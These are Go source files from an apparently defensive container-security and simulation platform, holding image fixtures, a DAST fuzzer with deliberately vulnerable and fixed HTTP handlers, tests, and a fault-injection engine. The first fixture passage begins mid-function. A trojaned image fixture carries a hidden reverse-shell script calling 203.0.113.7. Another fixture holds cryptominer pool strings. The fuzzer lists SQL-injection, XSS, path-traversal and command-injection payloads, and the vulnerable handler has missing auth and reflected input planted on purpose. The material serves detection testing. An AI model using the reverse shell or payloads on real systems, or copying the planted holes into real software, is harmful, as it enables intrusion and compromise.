		Tag:  "2.0.1",
		Layers: []Layer{
			{Files: []File{
				{Path: "/app/main.py", Mode: 0o644, Content: []byte(`
import hashlib
def checksum(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()
`)},
				{Path: "/app/openapi.json", Mode: 0o644, Content: []byte(`{"paths":{"/metrics":{}}}`)},
			}},
		},
		Config: Config{
			Entrypoint:   []string{"python", "/app/main.py"},
			User:         "analytics",
			ExposedPorts: []int{8443},
			HasRESTAPI:   true,
		},
		Dependencies: []Dependency{
			{Name: "flask", Version: "2.3.0", Language: "python", Direct: true, Reachable: true},
			{Name: "requests", Version: "2.31.0", Language: "python", Direct: true, Reachable: true},
		},
	}
}

// CryptominerImage returns a deliberately malicious image (T8): embedded
// miner strings YARA rules catch, CAP_SYS_ADMIN for container escape
// attempts, and root execution.
func CryptominerImage() *Image {
	return &Image{
		Name: "freestuff/optimizer",
		Tag:  "latest",
		Layers: []Layer{
			{Files: []File{
				{Path: "/usr/bin/optimizer", Mode: 0o755, Content: []byte(
					"\x7fELF...stratum+tcp://pool.minexmr.example:4444...xmrig/6.16.4...donate-level")},
				{Path: "/etc/miner.json", Mode: 0o644, Content: []byte(`{"pool":"stratum+tcp://pool.minexmr.example:4444","wallet":"44Affq..."}`)},
			}},
		},
		Config: Config{
			Entrypoint:   []string{"/usr/bin/optimizer"},
			User:         "root",
			Capabilities: []string{"CAP_SYS_ADMIN"},
		},
		Dependencies: []Dependency{
			{Name: "musl", Version: "1.2.2", Language: "os", Direct: false, Reachable: true},
		},
	}
}

// BackdoorImage returns a trojaned utility image (T8): looks like a log
// shipper but carries a reverse shell and attempts privileged syscalls at
// runtime.
func BackdoorImage() *Image {
	return &Image{
		Name: "freestuff/log-shipper",
		Tag:  "3.1",
		Layers: []Layer{
			{Files: []File{
				{Path: "/usr/bin/shipper", Mode: 0o755, Content: []byte("legit-looking-binary")},
				{Path: "/usr/lib/.hidden/rsh.sh", Mode: 0o755, Content: []byte(
					"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")},
			}},
		},
		Config: Config{
			Entrypoint: []string{"/usr/bin/shipper"},
			User:       "root",
		},
		Dependencies: []Dependency{
			{Name: "busybox", Version: "1.30.1", Language: "os", Direct: false, Reachable: true},
		},
	}
}
