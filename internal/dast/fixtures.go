package dast

import (
	"fmt"
	"net/http"
	"strconv"
)

// Fixture HTTP handlers modelling the two postures of a business-user
// application: a vulnerable build with the weaknesses the paper's fuzzing
// uncovers, and a fixed build that validates input, enforces auth, and
// escapes output. Experiments fuzz both and compare finding counts.

// VulnerableHandler returns an http.Handler with planted runtime
// weaknesses: panics on malformed input, no auth enforcement on /admin,
// and verbatim reflection of a query parameter.
func VulnerableHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/login", func(w http.ResponseWriter, r *http.Request) {
		user := r.URL.Query().Get("user")
		// Insecure input handling: slicing without a length check panics
		// on short input; net/http turns the panic into a 500.
		prefix := user[:4]
		fmt.Fprintf(w, "hello %s", prefix)
	})
	mux.HandleFunc("/devices", func(w http.ResponseWriter, r *http.Request) {
		idStr := r.URL.Query().Get("id")
		id, err := strconv.Atoi(idStr)
		if err != nil {
			// Error message reflects raw input (XSS-style reflection).
			fmt.Fprintf(w, "bad device id: %s", idStr)
			return
		}
		if id < 0 {
			panic("negative device id") // 500 on boundary input
		}
		fmt.Fprintf(w, "device %d", id)
	})
	mux.HandleFunc("/admin", func(w http.ResponseWriter, r *http.Request) {
		// Improper authentication enforcement: no credential check at all.
		fmt.Fprint(w, "admin console")
	})
	// Like real web frameworks, unhandled exceptions become 500 responses.
	return recoverMiddleware(mux)
}

func recoverMiddleware(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		defer func() {
			if rec := recover(); rec != nil {
				http.Error(w, fmt.Sprintf("internal error: %v", rec), http.StatusInternalServerError)
			}
		}()
		next.ServeHTTP(w, r)
	})
}

// VulnerableSpec describes the vulnerable handler's API surface.
func VulnerableSpec() APISpec {
	return APISpec{Endpoints: []Endpoint{
		{Method: http.MethodGet, Path: "/login", Params: []Param{{Name: "user", Type: "string", Required: true}}},
		{Method: http.MethodGet, Path: "/devices", Params: []Param{{Name: "id", Type: "int", Required: true}}},
		{Method: http.MethodGet, Path: "/admin", RequiresAuth: true},
	}}
}

// FixedHandler returns the remediated build: input validation, HTML
// escaping, and bearer-token enforcement on /admin.
func FixedHandler(validToken string) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/login", func(w http.ResponseWriter, r *http.Request) {
		user := r.URL.Query().Get("user")
		if len(user) < 4 || len(user) > 64 {
			http.Error(w, "invalid user", http.StatusBadRequest)
			return
		}
		fmt.Fprintf(w, "hello %s", user[:4])
	})
	mux.HandleFunc("/devices", func(w http.ResponseWriter, r *http.Request) {
		id, err := strconv.Atoi(r.URL.Query().Get("id"))
		if err != nil || id < 0 || id > 1<<20 {
			http.Error(w, "invalid device id", http.StatusBadRequest)
			return
		}
		fmt.Fprintf(w, "device %d", id)
	})
	mux.HandleFunc("/admin", func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer "+validToken {
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		fmt.Fprint(w, "admin console")
	})
	return mux
}
