package dast

import (
	"net/http/httptest"
	"testing"
)

func TestFuzzerFindsPlantedWeaknesses(t *testing.T) {
	srv := httptest.NewServer(VulnerableHandler())
	defer srv.Close()
	rep, err := NewFuzzer().Fuzz(srv.URL, VulnerableSpec())
	if err != nil {
		t.Fatalf("Fuzz: %v", err)
	}
	if rep.RequestsSent == 0 {
		t.Fatal("no requests sent")
	}
	kinds := map[FindingKind]bool{}
	for _, f := range rep.Findings {
		kinds[f.Kind] = true
	}
	if !kinds[FindingServerError] {
		t.Errorf("missing server-error finding; findings = %+v", rep.Findings)
	}
	if !kinds[FindingAuthBypass] {
		t.Errorf("missing auth-bypass finding")
	}
	if !kinds[FindingReflected] {
		t.Errorf("missing reflected-input finding")
	}
}

func TestFuzzerCleanOnFixedBuild(t *testing.T) {
	srv := httptest.NewServer(FixedHandler("secret-token"))
	defer srv.Close()
	f := NewFuzzer()
	f.AuthToken = "secret-token"
	rep, err := f.Fuzz(srv.URL, VulnerableSpec())
	if err != nil {
		t.Fatalf("Fuzz: %v", err)
	}
	if len(rep.Findings) != 0 {
		t.Fatalf("fixed build still has findings: %+v", rep.Findings)
	}
}

func TestAuthBypassSpecificEndpoint(t *testing.T) {
	srv := httptest.NewServer(VulnerableHandler())
	defer srv.Close()
	rep, err := NewFuzzer().Fuzz(srv.URL, VulnerableSpec())
	if err != nil {
		t.Fatal(err)
	}
	var ok bool
	for _, f := range rep.Findings {
		if f.Kind == FindingAuthBypass && f.Endpoint == "GET /admin" {
			ok = true
		}
	}
	if !ok {
		t.Fatal("auth bypass not attributed to /admin")
	}
}

func TestFixedBuildRejectsWrongToken(t *testing.T) {
	srv := httptest.NewServer(FixedHandler("secret-token"))
	defer srv.Close()
	f := NewFuzzer() // no token configured
	rep, err := f.Fuzz(srv.URL, APISpec{Endpoints: []Endpoint{
		{Method: "GET", Path: "/admin", RequiresAuth: true},
	}})
	if err != nil {
		t.Fatal(err)
	}
	// No auth-bypass finding: the endpoint properly returns 401.
	if len(rep.Findings) != 0 {
		t.Fatalf("findings = %+v", rep.Findings)
	}
}

func TestFindingsSorted(t *testing.T) {
	srv := httptest.NewServer(VulnerableHandler())
	defer srv.Close()
	rep, err := NewFuzzer().Fuzz(srv.URL, VulnerableSpec())
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(rep.Findings); i++ {
		a, b := rep.Findings[i-1], rep.Findings[i]
		if a.Endpoint > b.Endpoint {
			t.Fatal("findings not sorted by endpoint")
		}
	}
}

func TestCheckPorts(t *testing.T) {
	open := []int{22, 8443, 8080, 9229}
	expected := map[int]bool{22: true, 8443: true, 8080: true}
	tlsOn := map[int]bool{22: true, 8443: true} // 8080 plaintext
	findings := CheckPorts(open, expected, tlsOn)
	if len(findings) != 2 {
		t.Fatalf("findings = %+v", findings)
	}
	if findings[0].Port != 8080 || findings[0].Issue != "tls-not-enforced" {
		t.Fatalf("first = %+v", findings[0])
	}
	if findings[1].Port != 9229 || findings[1].Issue != "unexpected-open-port" {
		t.Fatalf("second = %+v", findings[1])
	}
}

func TestCheckPortsAllClean(t *testing.T) {
	findings := CheckPorts([]int{443}, map[int]bool{443: true}, map[int]bool{443: true})
	if len(findings) != 0 {
		t.Fatalf("findings = %+v", findings)
	}
}

func TestFindingKindString(t *testing.T) {
	if FindingServerError.String() != "server-error" || FindingKind(9).String() != "finding(9)" {
		t.Fatal("FindingKind.String mismatch")
	}
}
