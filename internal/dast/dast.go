// Package dast implements dynamic application security testing (M15): a
// REST API fuzzer in the role of CATS that drives real HTTP servers from an
// OpenAPI-like endpoint description with malformed, unexpected, and
// malicious inputs, and an nmap-style network checker verifying TLS
// enforcement and port exposure.
//
// Unlike the static scanners, the fuzzer exercises live code: in tests and
// experiments the targets are real net/http servers.
package dast

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"time"
)

// Param describes one endpoint parameter.
type Param struct {
	Name     string `json:"name"`
	Type     string `json:"type"` // "string" | "int"
	Required bool   `json:"required"`
}

// Endpoint describes one REST operation.
type Endpoint struct {
	Method       string  `json:"method"`
	Path         string  `json:"path"`
	Params       []Param `json:"params"`
	RequiresAuth bool    `json:"requiresAuth"`
}

// APISpec is the OpenAPI-like surface description the fuzzer consumes.
type APISpec struct {
	Endpoints []Endpoint `json:"endpoints"`
}

// FindingKind classifies fuzzer findings.
type FindingKind int

// Finding kinds.
const (
	// FindingServerError is a 5xx on malformed input (insecure input
	// handling).
	FindingServerError FindingKind = iota + 1
	// FindingAuthBypass is a 2xx on an auth-required endpoint without
	// credentials (improper authentication enforcement).
	FindingAuthBypass
	// FindingReflected is attacker-controlled input echoed verbatim
	// (XSS-style reflection).
	FindingReflected
)

var findingNames = map[FindingKind]string{
	FindingServerError: "server-error",
	FindingAuthBypass:  "auth-bypass",
	FindingReflected:   "reflected-input",
}

// String names the kind.
func (k FindingKind) String() string {
	if n, ok := findingNames[k]; ok {
		return n
	}
	return fmt.Sprintf("finding(%d)", int(k))
}

// Finding is one fuzzer discovery.
type Finding struct {
	Kind     FindingKind `json:"kind"`
	Endpoint string      `json:"endpoint"`
	Payload  string      `json:"payload"`
	Status   int         `json:"status"`
}

// Report aggregates one fuzzing run.
type Report struct {
	Target       string    `json:"target"`
	RequestsSent int       `json:"requestsSent"`
	Findings     []Finding `json:"findings"`
}

// Fuzzer drives HTTP targets with hostile inputs.
type Fuzzer struct {
	Client *http.Client
	// AuthToken, when set, is used for the authenticated baseline request.
	AuthToken string
}

// NewFuzzer returns a fuzzer with a short-timeout client.
func NewFuzzer() *Fuzzer {
	return &Fuzzer{Client: &http.Client{Timeout: 5 * time.Second}}
}

// attack payloads per parameter type, the CATS-style generators.
var stringPayloads = []string{
	"",                          // empty
	strings.Repeat("A", 4096),   // oversized
	"' OR '1'='1",               // SQL injection
	"<script>alert(1)</script>", // XSS
	"../../../../etc/passwd",    // path traversal
	"%00%ff\x00",                // binary junk
	"нет-ascii-здесь",           // non-ASCII
	"$(touch /tmp/pwned)",       // command injection
}

var intPayloads = []string{"-1", "0", "999999999999999999999", "NaN", "1e309", "0x41"}

// Fuzz runs the full payload matrix against every endpoint of the spec.
func (f *Fuzzer) Fuzz(baseURL string, spec APISpec) (*Report, error) {
	rep := &Report{Target: baseURL}
	for _, ep := range spec.Endpoints {
		if err := f.fuzzEndpoint(baseURL, ep, rep); err != nil {
			return rep, fmt.Errorf("fuzz %s %s: %w", ep.Method, ep.Path, err)
		}
	}
	sort.Slice(rep.Findings, func(i, j int) bool {
		if rep.Findings[i].Endpoint != rep.Findings[j].Endpoint {
			return rep.Findings[i].Endpoint < rep.Findings[j].Endpoint
		}
		return rep.Findings[i].Kind < rep.Findings[j].Kind
	})
	return rep, nil
}

func (f *Fuzzer) fuzzEndpoint(baseURL string, ep Endpoint, rep *Report) error {
	// Auth-enforcement probe: call without credentials.
	if ep.RequiresAuth {
		status, _, err := f.call(baseURL, ep, map[string]string{}, false)
		if err != nil {
			return err
		}
		rep.RequestsSent++
		if status >= 200 && status < 300 {
			rep.Findings = append(rep.Findings, Finding{
				Kind: FindingAuthBypass, Endpoint: ep.Method + " " + ep.Path,
				Payload: "<no credentials>", Status: status,
			})
		}
	}
	// Parameter fuzzing.
	for _, p := range ep.Params {
		payloads := stringPayloads
		if p.Type == "int" {
			payloads = intPayloads
		}
		for _, payload := range payloads {
			values := map[string]string{p.Name: payload}
			endpoint := ep.Method + " " + ep.Path
			status, body, err := f.call(baseURL, ep, values, true)
			rep.RequestsSent++
			if err != nil {
				// A dropped connection mid-request (e.g. an unrecovered
				// crash) is itself an insecure-input-handling finding.
				rep.Findings = append(rep.Findings, Finding{
					Kind: FindingServerError, Endpoint: endpoint, Payload: payload, Status: 0,
				})
				continue
			}
			if status >= 500 {
				rep.Findings = append(rep.Findings, Finding{
					Kind: FindingServerError, Endpoint: endpoint, Payload: payload, Status: status,
				})
			}
			if len(payload) >= 8 && strings.Contains(body, payload) {
				rep.Findings = append(rep.Findings, Finding{
					Kind: FindingReflected, Endpoint: endpoint, Payload: payload, Status: status,
				})
			}
		}
		// Missing-required-parameter probe.
		if p.Required {
			status, _, err := f.call(baseURL, ep, map[string]string{}, true)
			if err != nil {
				return err
			}
			rep.RequestsSent++
			if status >= 500 {
				rep.Findings = append(rep.Findings, Finding{
					Kind: FindingServerError, Endpoint: ep.Method + " " + ep.Path,
					Payload: "<missing " + p.Name + ">", Status: status,
				})
			}
		}
	}
	return nil
}

func (f *Fuzzer) call(baseURL string, ep Endpoint, values map[string]string, withAuth bool) (int, string, error) {
	q := url.Values{}
	for k, v := range values {
		q.Set(k, v)
	}
	req, err := http.NewRequest(ep.Method, baseURL+ep.Path+"?"+q.Encode(), nil)
	if err != nil {
		return 0, "", err
	}
	if withAuth && f.AuthToken != "" {
		req.Header.Set("Authorization", "Bearer "+f.AuthToken)
	}
	resp, err := f.Client.Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
	if err != nil {
		return resp.StatusCode, "", err
	}
	return resp.StatusCode, string(body), nil
}

// --- Network checks (nmap role) ---------------------------------------------

// PortFinding is one network-exposure issue.
type PortFinding struct {
	Port   int    `json:"port"`
	Issue  string `json:"issue"`
	Detail string `json:"detail"`
}

// CheckPorts compares open ports against an expected allowlist and a TLS
// requirement map, in the role the paper assigns to nmap: verify TLS
// enforcement and flag unnecessary open ports.
func CheckPorts(open []int, expected map[int]bool, tlsOn map[int]bool) []PortFinding {
	var out []PortFinding
	for _, p := range open {
		if !expected[p] {
			out = append(out, PortFinding{Port: p, Issue: "unexpected-open-port",
				Detail: fmt.Sprintf("port %d not in the service allowlist", p)})
			continue
		}
		if !tlsOn[p] {
			out = append(out, PortFinding{Port: p, Issue: "tls-not-enforced",
				Detail: fmt.Sprintf("port %d serves plaintext", p)})
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Port < out[j].Port })
	return out
}
