package sim

import (
	"bytes"
	"strings"
	"testing"

	"genio/internal/core"
	"genio/internal/events"
	"genio/internal/orchestrator"
)

// TestEventStormBalancesLedger: the campaign drives every topic and the
// no-silent-event-drops invariant holds — block policy, zero drops,
// published == delivered after every step.
func TestEventStormBalancesLedger(t *testing.T) {
	rep, js := runJSON(t, "event-storm", 7)
	if !rep.Passed {
		t.Fatalf("event-storm violated invariants:\n%s", js)
	}
	for _, topic := range []string{"incident", "falco.alert", "audit", "metric"} {
		if rep.Final.Events[topic] == 0 {
			t.Fatalf("topic %s carried no events:\n%s", topic, js)
		}
	}
	found := false
	for _, inv := range rep.Invariants {
		if inv == "no-silent-event-drops" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no-silent-event-drops not in the default set: %v", rep.Invariants)
	}
}

// TestDropPolicyExactAccounting: under the Drop policy with a deliberately
// tiny spine, losses are allowed — but only as exact drop counters, never
// silently. The ledger invariant must still pass, and whatever reached
// the platform log must match what the subscription saw.
func TestDropPolicyExactAccounting(t *testing.T) {
	cfg := core.SecureConfig()
	cfg.EventBackpressure = events.Drop
	cfg.EventShards = 1
	cfg.EventQueueCapacity = 4
	sc := Scenario{
		Name: "drop-pressure", Seed: 5, Config: cfg,
		Steps: []Step{
			SetQuota("acme", orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}),
			JoinNode(nodeCapacity),
			JoinNode(nodeCapacity),
			Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
			Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
			IncidentStorm(8, 0.6, "acme"),
			MetricBurst(500),
			IncidentStorm(8, 0.6, "acme"),
			MetricBurst(500),
		},
	}
	rep, err := NewEngine(nil).Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	js, _ := rep.JSON()
	if !rep.Passed {
		t.Fatalf("drop policy broke the ledger invariant (losses must be counted, not silent):\n%s", js)
	}
	if rep.Posture != "custom" {
		t.Fatalf("posture = %q, want custom (tuned event spine)", rep.Posture)
	}
}

// TestFirehoseStreamsEvents: the engine firehose emits one JSON line per
// spine event, covering multiple topics, without perturbing the report.
func TestFirehoseStreamsEvents(t *testing.T) {
	sc, err := NewCampaign("event-storm", 3)
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(nil)
	var hose bytes.Buffer
	e.SetFirehose(&hose)
	rep, err := e.Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Passed {
		js, _ := rep.JSON()
		t.Fatalf("run failed:\n%s", js)
	}
	lines := strings.Split(strings.TrimSpace(hose.String()), "\n")
	var total uint64
	for _, n := range rep.Final.Events {
		total += n
	}
	if uint64(len(lines)) != total {
		t.Fatalf("firehose has %d lines, report counts %d published events", len(lines), total)
	}
	topics := map[string]bool{}
	for _, l := range lines {
		if !strings.HasPrefix(l, `{"topic":"`) {
			t.Fatalf("malformed firehose line: %s", l)
		}
		rest := l[len(`{"topic":"`):]
		topics[rest[:strings.Index(rest, `"`)]] = true
	}
	for _, want := range []string{"incident", "falco.alert", "audit", "metric"} {
		if !topics[want] {
			t.Fatalf("firehose missing topic %s (saw %v)", want, topics)
		}
	}
	// The report itself must be byte-identical with and without firehose.
	rep2, js2 := runJSON(t, "event-storm", 3)
	if !rep2.Passed {
		t.Fatalf("silent rerun failed:\n%s", js2)
	}
	js1, _ := rep.JSON()
	if !bytes.Equal(js1, js2) {
		t.Fatalf("firehose perturbed the report:\n--- with\n%s\n--- without\n%s", js1, js2)
	}
}
