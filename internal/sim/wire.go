package sim

// Wire injectors: the same deployment traffic as the in-process
// injectors, but driven through the networked control plane — the
// world's authenticated HTTP client against the httptest-hosted
// genio/api/server that Engine.Run wires up for Scenario.Wire runs.
// Every outcome crosses encode→HTTP→decode, so the campaign proves the
// wire neither perturbs admission verdicts nor unbalances the
// lifecycle/event ledgers the invariants audit.

import (
	"context"
	"fmt"
	"sort"
	"time"

	"genio/api"
	"genio/internal/core"
	"genio/internal/orchestrator"
)

// wireSpec converts a library spec to its wire form.
func wireSpec(spec orchestrator.WorkloadSpec) api.WorkloadSpec {
	return api.FromWorkloadSpec(spec)
}

// WireDeploy submits one workload synchronously over HTTP and records
// its (decoded) verdict for the determinism invariant — the wire
// round-trip must classify exactly like the in-process path.
func WireDeploy(tenant, ref string, iso orchestrator.IsolationMode, res orchestrator.Resources) Step {
	return Step{Name: "wire-deploy", Run: func(w *World) Outcome {
		return wireDeployOne(w, orchestrator.WorkloadSpec{
			Name: w.NextWorkloadName(), Tenant: tenant, ImageRef: ref,
			Isolation: iso, Resources: res,
		})
	}}
}

func wireDeployOne(w *World, spec orchestrator.WorkloadSpec) Outcome {
	if w.wire == nil {
		return Outcome{Status: "error", Detail: "wire step in a non-wire scenario"}
	}
	w.policies[spec.Name] = spec.PlacementPolicy
	_, err := w.wire.Deploy(context.Background(), wireSpec(spec))
	status, class, contentDetermined := classifyDeploy(err)
	if contentDetermined {
		w.recordVerdict(spec.ImageRef, class)
	}
	if err != nil {
		return Outcome{Status: status, Detail: fmt.Sprintf("%s (%s): %v", spec.Name, spec.ImageRef, err)}
	}
	return Outcome{Status: status, Detail: fmt.Sprintf("%s (%s) placed", spec.Name, spec.ImageRef)}
}

// WireDeployFlood fires n synchronous wire deployments drawn randomly
// from refs — the admission-flood shape, over HTTP.
func WireDeployFlood(n int, tenant string, res orchestrator.Resources, refs ...string) Step {
	return Step{Name: "wire-deploy-flood", Run: func(w *World) Outcome {
		counts := map[string]int{}
		for i := 0; i < n; i++ {
			out := wireDeployOne(w, orchestrator.WorkloadSpec{
				Name: w.NextWorkloadName(), Tenant: tenant,
				ImageRef:  refs[w.Rand.Intn(len(refs))],
				Isolation: orchestrator.IsolationSoft, Resources: res,
			})
			counts[out.Status]++
		}
		keys := make([]string, 0, len(counts))
		for k := range counts {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		detail := fmt.Sprintf("%d wire deploys:", n)
		for _, k := range keys {
			detail += fmt.Sprintf(" %s=%d", k, counts[k])
		}
		return okf("%s", detail)
	}}
}

// WireCancelStorm is the cancel-storm shape over HTTP: n asynchronous
// deployments via POST /v2/deployments/async, with a seeded subset
// cancelled through DELETE while the sim-cancel-gate holds them
// mid-scan. The cancelled-never-placed and lifecycle-ledger invariants
// audit the aftermath exactly as they do for in-process futures.
func WireCancelStorm(n int, tenant string, res orchestrator.Resources, refs ...string) Step {
	if len(refs) == 0 {
		refs = []string{CleanImageRef}
	}
	return Step{Name: "wire-cancel-storm", Run: func(w *World) Outcome {
		if w.wire == nil {
			return Outcome{Status: "error", Detail: "wire step in a non-wire scenario"}
		}
		counts := map[string]int{}
		cancelledNow := 0
		for i := 0; i < n; i++ {
			spec := orchestrator.WorkloadSpec{
				Name: w.NextWorkloadName(), Tenant: tenant,
				ImageRef:  refs[w.Rand.Intn(len(refs))],
				Isolation: orchestrator.IsolationSoft, Resources: res,
			}
			// The coin flips before the deploy so the schedule replays.
			doCancel := w.Rand.Intn(2) == 0
			var status string
			if doCancel {
				status = w.wireCancelOne(spec)
				cancelledNow++
			} else {
				status = w.wireAsyncOne(spec)
			}
			counts[status]++
			w.Clock.Advance(5)
		}
		keys := make([]string, 0, len(counts))
		for k := range counts {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		detail := fmt.Sprintf("%d wire async deploys (%d cancel attempts):", n, cancelledNow)
		for _, k := range keys {
			detail += fmt.Sprintf(" %s=%d", k, counts[k])
		}
		return okf("%s", detail)
	}}
}

// wireCancelOne runs one armed deployment over the wire: submit async,
// poll until the gate holds it in scanning (or it turns terminal
// first), cancel via the wire, and await the terminal typed error.
func (w *World) wireCancelOne(spec orchestrator.WorkloadSpec) string {
	w.markCancelTarget(spec.Name)
	defer w.clearCancelTarget(spec.Name)
	d, err := w.wire.DeployAsync(context.Background(), wireSpec(spec))
	if err != nil {
		return "error"
	}
	// The gate pins the future in scanning until its context dies, so
	// this poll terminates: either we observe scanning (and the cancel
	// below deterministically lands mid-scan) or the future was refused
	// before the gate (terminal already).
	for {
		st, err := d.Status(context.Background())
		if err != nil {
			return "error"
		}
		if st.State == string(core.StateScanning) || core.DeployState(st.State).Terminal() {
			break
		}
		time.Sleep(time.Millisecond)
	}
	if err := d.Cancel(context.Background()); err != nil {
		return "error"
	}
	_, derr := d.Await(context.Background())
	status, class, contentDetermined := classifyDeploy(derr)
	if contentDetermined {
		w.recordVerdict(spec.ImageRef, class)
	}
	if status == "cancelled" {
		w.cancelled[spec.Name] = true
	}
	w.asyncDone[spec.Name] = true
	return status
}

// wireAsyncOne runs one un-armed deployment over the wire to its
// natural terminal state.
func (w *World) wireAsyncOne(spec orchestrator.WorkloadSpec) string {
	d, err := w.wire.DeployAsync(context.Background(), wireSpec(spec))
	if err != nil {
		return "error"
	}
	_, derr := d.Await(context.Background())
	status, class, contentDetermined := classifyDeploy(derr)
	if contentDetermined {
		w.recordVerdict(spec.ImageRef, class)
	}
	w.asyncDone[spec.Name] = true
	return status
}

// WireLedgerProbe reads the event ledger through GET /v2/ledger and
// reports the deploy.lifecycle publish count — deterministic under the
// Block policy, so it joins the replay contract and pins down that
// wire-driven deployments fed the spine exactly like local ones.
func WireLedgerProbe() Step {
	return Step{Name: "wire-ledger-probe", Run: func(w *World) Outcome {
		if w.wire == nil {
			return Outcome{Status: "error", Detail: "wire step in a non-wire scenario"}
		}
		w.Platform.Flush()
		ledger, err := w.wire.Ledger(context.Background())
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("ledger: %v", err)}
		}
		lifecycle := ledger["deploy.lifecycle"]
		if lifecycle.Published == 0 {
			return Outcome{Status: "error", Detail: "no deploy.lifecycle events crossed the spine"}
		}
		return okf("deploy.lifecycle published=%d dropped=%d", lifecycle.Published, lifecycle.Dropped)
	}}
}

// WireDeployBatch draws n specs from refs and ships them as ONE signed
// POST /v2/deploy/batch request — the amortized storm shape. Results
// decode positionally, so each element feeds the verdict-determinism
// and lifecycle bookkeeping exactly like a single wire deploy; one
// rejected element must never perturb its batch siblings.
func WireDeployBatch(n int, tenant string, res orchestrator.Resources, refs ...string) Step {
	if len(refs) == 0 {
		refs = []string{CleanImageRef}
	}
	return Step{Name: "wire-deploy-batch", Run: func(w *World) Outcome {
		if w.wire == nil {
			return Outcome{Status: "error", Detail: "wire step in a non-wire scenario"}
		}
		specs := make([]orchestrator.WorkloadSpec, n)
		wireSpecs := make([]api.WorkloadSpec, n)
		for i := range specs {
			specs[i] = orchestrator.WorkloadSpec{
				Name: w.NextWorkloadName(), Tenant: tenant,
				ImageRef:  refs[w.Rand.Intn(len(refs))],
				Isolation: orchestrator.IsolationSoft, Resources: res,
			}
			w.policies[specs[i].Name] = specs[i].PlacementPolicy
			wireSpecs[i] = wireSpec(specs[i])
		}
		results, err := w.wire.DeployBatch(context.Background(), wireSpecs)
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("batch transport: %v", err)}
		}
		if len(results) != n {
			return Outcome{Status: "error", Detail: fmt.Sprintf("batch returned %d results for %d specs", len(results), n)}
		}
		counts := map[string]int{}
		for i, r := range results {
			status, class, contentDetermined := classifyDeploy(r.Err)
			if contentDetermined {
				w.recordVerdict(specs[i].ImageRef, class)
			}
			counts[status]++
		}
		keys := make([]string, 0, len(counts))
		for k := range counts {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		detail := fmt.Sprintf("%d wire deploys in one batch:", n)
		for _, k := range keys {
			detail += fmt.Sprintf(" %s=%d", k, counts[k])
		}
		return okf("%s", detail)
	}}
}
