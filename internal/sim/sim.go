// Package sim is GENIO's deterministic scenario-simulation and
// fault-injection engine: it drives a real core.Platform — nothing is
// mocked — through scripted and seeded-random fault campaigns (node
// churn, admission floods, failover storms, registry tampering, scanner
// slowdowns, incident storms) on a virtual clock, and evaluates
// dependability invariants after every step.
//
// Determinism is the contract: all randomness flows from one seeded
// *rand.Rand, all time from one virtual Clock, and every run of
// (scenario, seed) produces a byte-identical JSON report. That makes a
// failing campaign a bug report you can replay: `genio-sim -campaign
// failover-storm -seed 7` reproduces the exact run.
package sim

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"net/http/httptest"
	"os"
	"sync"

	"genio/api/client"
	"genio/api/server"
	"genio/internal/container"
	"genio/internal/core"
	"genio/internal/events"
	"genio/internal/orchestrator"
	"genio/internal/orchestrator/warmpool"
	"genio/internal/persist"
	"genio/internal/pki"
	"genio/internal/rbac"
)

// Subject is the control-plane identity the simulator deploys as; it is
// bound to a wildcard role so RBAC-enabled postures admit scripted
// traffic.
const Subject = "sim-ops"

// PublisherName is the trusted publisher the simulator signs images as.
const PublisherName = "acme"

// Image refs seeded into every simulated registry (see the container
// fixtures): a clean signed image, a signed image the SAST gate rejects
// (hardcoded credentials), a signed image with an exploitable critical
// dependency, a signed image carrying malware, and an unsigned image.
const (
	CleanImageRef       = "acme/analytics:2.0.1"
	SASTFlaggedImageRef = "acme/iot-gateway:1.4.2"
	VulnImageRef        = "acme/ml-inference:0.9.0"
	MalwareImageRef     = "freestuff/optimizer:latest"
	UnsignedImageRef    = "freestuff/log-shipper:3.1"
)

// Engine runs scenarios and checks invariants.
type Engine struct {
	invariants []Invariant
	firehose   io.Writer
}

// NewEngine creates an engine with the given invariant set (nil = the
// DefaultInvariants).
func NewEngine(invariants []Invariant) *Engine {
	if invariants == nil {
		invariants = DefaultInvariants()
	}
	return &Engine{invariants: invariants}
}

// SetFirehose streams every spine event of subsequent runs to w as JSON
// lines (one event per line). Delivery order across shards is
// scheduler-dependent, so the firehose is an observation stream, not
// part of the byte-identical replay contract — reports stay
// deterministic with or without it.
func (e *Engine) SetFirehose(w io.Writer) {
	e.firehose = w
}

// Run executes the scenario against a freshly built platform and returns
// the deterministic report. The error is reserved for harness failures
// (platform construction); fault outcomes and invariant violations are
// data, reported not returned.
func (e *Engine) Run(sc Scenario) (*Report, error) {
	clock := NewClock(0)
	w := &World{
		Clock:         clock,
		Rand:          rand.New(rand.NewSource(sc.Seed)),
		Live:          make(map[string]bool),
		Cordoned:      make(map[string]int64),
		policies:      make(map[string]string),
		Quotas:        make(map[string]orchestrator.Resources),
		verdicts:      make(map[string]string),
		offeredEvents: make(map[string]uint64),
		cancelTargets: make(map[string]bool),
		cancelled:     make(map[string]bool),
		asyncDone:     make(map[string]bool),
		terminalSeen:  make(map[string]int),
	}
	if sc.Persist {
		if sc.Wire {
